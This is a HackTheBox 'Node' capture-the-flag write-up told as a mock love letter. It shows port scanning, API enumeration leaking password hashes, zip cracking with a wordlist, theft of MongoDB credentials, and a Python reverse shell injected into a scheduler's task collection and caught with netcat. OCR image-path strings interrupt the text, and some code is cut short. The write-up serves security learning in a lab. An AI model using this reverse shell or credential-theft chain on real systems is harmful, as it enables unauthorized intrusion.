Node was a special box for me. It was a special box because it was my first “first blood”, and thus got me truly addicted to hackthebox. In light of this, I’m going mix things up and bit and make the following writeup a “love” note to Node:

Oh, Node, it has been some time since we last spoke. It’s been a while since my sweet TCP packets, probed your open ports.

[email protected] ~# nmap -p- -T4 node.htb
3000/tcp    open

You rebuffed my attempts on 80. On 8080, 443, and more. But you invited me into your space, into yourplace, into port 3000. Yes, you did.

I dug into your deepest secrets. And into the APIs which b(urp)equeathed your user sequence. I saw you clearly, inside and out; cut through your defences: turned /api/users/latest to /api/users and saw your shy response:

HTTP/1.1 200 OK
X-Powered-By: Express
Content-Type: application/json; charset=utf-8
Content-Length: 611ETag: W/"263-mJMXKDfX6c4pdWF3bLjHuBIvsM0"
Date: Wed, 07 Mar 2018 13:51:16 GMT
Connection: close


Were these your past lovers? I cared not. But an admin flag, is an admin flag, and must be followed.Its hash looked weak. Indeed, it was. “manchester”.

With each keystroke, we grew closer m.y.P.1.4.c.e.A.d.m.1.n.A.c.c.0.u.N.T. m.a.n.c.h.e.s.t.e.r.

You offered me your memories encoded in mystery. I was undeterred.

[email protected] ~/Downloads# base64 -d myplace.backup > myplace.what
[email protected] ~/Downloads# file myplace.what
myplace.what: Zip archive data, at least v1.0 to extract

But still, you resisted me.

[email protected] ~/Downloads# unzip myplace.what
Archive:  myplace.what
  creating: var/www/myplace
[myplace.what] var/www/myplace/package-lock.json password:[email protected] ~/Downloads# fcrackzip -u -D -p /usr/share/wordlists/rockyou.txt myplace.what
PASSWORD FOUND!!!!: pw == magicword
[email protected] ~/Downloads# unzip -P magicword myplace.what
[email protected] ~/Downloads# head -n 11 var/www/myplace/app.js | tail -n 1
const url        = 'mongodb://mark:[email protected]:27017/myplace?authMechanism=DEFAULT&authSource=myplace';

Who was this mark? I wondered. What boundries had you let him pass? Nevermind. I had his secret, and he made a mistake, leaving this behind.

[email protected] ~# ssh [email protected]
[email protected] ~$

Node. My sweet Node. I felt so close to you. We were separated by miles and miles, but I could feel your circuits responding to my touch. I explored every inch of you, and found a special spot:

[email protected] ~# ps aux
tom     1426    0.0 5.1 1009080 31096   ?   ?   Ssl Mar040:31    /usr/bin/node /var/scheduler/app.js
[email protected]:~$ cat /var/scheduler/app.js
const exec        = require('child_process').exec;
const MongoClient = require('mongodb').MongoClient;
const ObjectID    = require('mongodb').ObjectID;
const url         = 'mongodb://mark:[email protected]:27017/scheduler?authMechanism=DEFAULT&authSource=scheduler';

MongoClient.connect(url, function(error, db) {
  if (error || !db) {
    console.log('[!] Failed to connect to mongodb');

  setInterval(function () {
    db.collection('tasks').find().toArray(function (error, docs) {
      if (!error && docs) {
        docs.forEach(function (doc) {
          if (doc) {
            console.log('Executing task ' + doc._id + '...');
            db.collection('tasks').deleteOne({ _id: new ObjectID(doc._id) });
      else if (error) {
        console.log('Something went wrong: ' + error);
  }, 30000);


You accepted me, and I inserted my hopes and dreams….

[email protected] ~$ cat << EOM > /tmp/
> import socket,subprocess,os
> s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
> s.connect(('',4444))> os.dup2(s.fileno(),0)
> os.dup2(s.fileno(),1)
> os.dup2(s.fileno(),2)
[email protected] ~$ mongo
> use scheduler
switched to db scheduler
> db.auth("mark","5AYRft73VtFpc84k")
> db.tasks.insert({"_id": 1, "cmd":"python /tmp/"})
WriteResult({ "nInserted" : 1 })

…and I tasted your luscious blood.

[email protected] ~# nc -lvvvp 4444
$ whomai

You still hadmore secrets to find, like /usr/local/bin/backup. In reversing it, I unziped your last garment - unveiling your inner soul, root.txt, in whole. You were so beautiful, so clever,and so true. How I loved your mysteries – unfortunately, there were more boxes to do.

your dearest, overcast

p.s. ifyou’d like to know how /usr/local/bin/backup fell tomy wiles, look to ltrace